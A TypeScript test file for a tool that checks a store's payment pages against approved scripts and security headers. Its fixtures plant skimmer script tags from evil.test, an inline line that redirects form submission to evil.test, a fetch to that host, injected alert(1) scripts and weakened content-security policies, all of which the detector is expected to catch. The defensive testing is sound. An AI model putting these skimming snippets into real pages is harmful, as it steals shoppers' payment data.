import { expect, test } from 'vitest'
import { comparePage, type Approved } from './payment-pages.ts'
import { purposeOf, scriptPurposes } from './script-purposes.ts'

const script = {
  address: '/assets/cart-1a2b3c4d.js',
  integrity: 'sha384-x',
  bytes: 10,
  purpose: 'Shows the cart',
  pages: ['Cart'],
}
const headers = {
  'x-content-type-options': 'nosniff',
  'content-security-policy': "default-src 'self'; script-src 'self' https://js.stripe.com; frame-ancestors 'none'",
}
const approved: Approved = {
  origin: 'https://store.test',
  scripts: new Map([[script.address, script]]),
  others: new Set(['https://js.stripe.com/endive/stripe.js']),
  headers,
  opens: true,
}
const policy = (text: string) => ({ ...headers, 'content-security-policy': text })
const document = (more = '') =>
  `<!doctype html><html><head><link rel="modulepreload" href="/assets/cart-1a2b3c4d.js"><script type="application/ld+json">{"a":1}</script>${more}</head><body><script nonce="x" type="module">import "/assets/cart-1a2b3c4d.js";</script><script nonce="x">window.__reactRouterContext = {};</script></body></html>`
const found = (html: string, got: Record<string, string> = headers) =>
  comparePage('/cart', { status: 200, headers: got, html }, approved).map(({ kind, subject }) => `${kind} ${subject}`)

test('a page as it was built has no findings; hashes and nonces of its document don’t count', () => {
  expect(found(document())).toEqual([])
  expect(
    found(
      document('<script src="https://js.stripe.com/endive/stripe.js"></script>'),
      policy(
        "default-src 'self'; script-src 'self' 'nonce-abc' 'sha256-abc=' https://js.stripe.com; frame-ancestors 'none'; img-src *",
      ),
    ),
  ).toEqual([])
})

test.for([
  ['<script src="https://evil.test/skim.js"></script>', 'script https://evil.test/skim.js'],
  ["<SCRIPT async SRC='//evil.test/s.js'></SCRIPT>", 'script //evil.test/s.js'],
  ['<script src=/assets/skim-00000000.js></script>', 'script /assets/skim-00000000.js'],
  ['<script src="https://store.test/assets/skim-00000000.js"></script>', 'script /assets/skim-00000000.js'],
  ['<script src="data:text/javascript,alert(1)"></script>', 'script data:text/javascript,alert(1)'],
  ['<link rel="modulepreload" href="/assets/skim-00000000.js">', 'script /assets/skim-00000000.js'],
  ['<script>document.forms[0].action="https://evil.test"</script>', 'script inline: document.forms[0]'],
  ['<script type="module">fetch("https://evil.test")</script>', 'script inline: fetch('],
  ['<script>alert(1)', 'script inline: alert(1)'],
  ['<script>{"prerender":[{"where":{}}]};alert(1)</script>', 'script inline: {"prerender"'],
] as const)('finds the planted %s', ([planted, subject]) => {
  expect(found(document(planted)).some((each) => each.startsWith(subject))).toBe(true)
})

test.for<[string, Record<string, string>, string]>([
  ['a missing header', { 'content-security-policy': headers['content-security-policy'] }, 'x-content-type-options'],
  ['another value', { ...headers, 'x-content-type-options': 'none' }, 'x-content-type-options'],
  ['a missing rule', policy("default-src 'self'; script-src 'self'"), 'content-security-policy frame-ancestors'],
  [
    'another source',
    policy("default-src 'self'; script-src 'self' https://evil.test; frame-ancestors 'none'"),
    'content-security-policy script-src',
  ],
  [
    'inline scripts',
    policy("default-src 'self'; script-src 'self' 'unsafe-inline'; frame-ancestors 'none'"),
    'content-security-policy script-src',
  ],
  [
    'a first rule that wins',
    policy("script-src *; default-src 'self'; script-src 'self'; frame-ancestors 'none'"),
    'content-security-policy script-src',
  ],
])('finds a header weakened by %s', ([, got, subject]) => {
  expect(found(document(), got)).toContain(`header ${subject}`)
})

test('a page that must open and redirects is reported', () => {
  const redirect = { status: 303, headers, html: '' }
  expect(comparePage('/checkout/payments/card', redirect, approved)).toMatchObject([
    { kind: 'unreachable', subject: 'page', detail: 'The page answered 303.' },
  ])
  expect(comparePage('/checkout/payments', redirect, { ...approved, opens: false })).toEqual([])
})

test('a hostile document is read in a moment', () => {
  const began = performance.now()
  for (const part of ['<script', '<script src=', '<link rel=', '<script>', "<script src='", '</script'])
    expect(found(part.repeat(60_000)).length).toBeLessThanOrEqual(50)
  expect(found('<'.repeat(2_000_001))).toEqual(['unreachable document'])
  expect(performance.now() - began).toBeLessThan(5_000)
})

test('a script’s purpose is declared by its name', () => {
  expect(purposeOf('/assets/react-1a2b3c4d.js')).toBe('Renders the page (React)')
  for (const name of ['skim', 'constructor', '']) expect(purposeOf(`/assets/${name}-1a2b3c4d.js`), name).toBe(null)
  const purposes = Object.values(scriptPurposes)
  for (const purpose of purposes) expect(purpose.length, purpose).toBeGreaterThanOrEqual(14)
  expect(new Set(purposes).size).toBe(purposes.length)
})
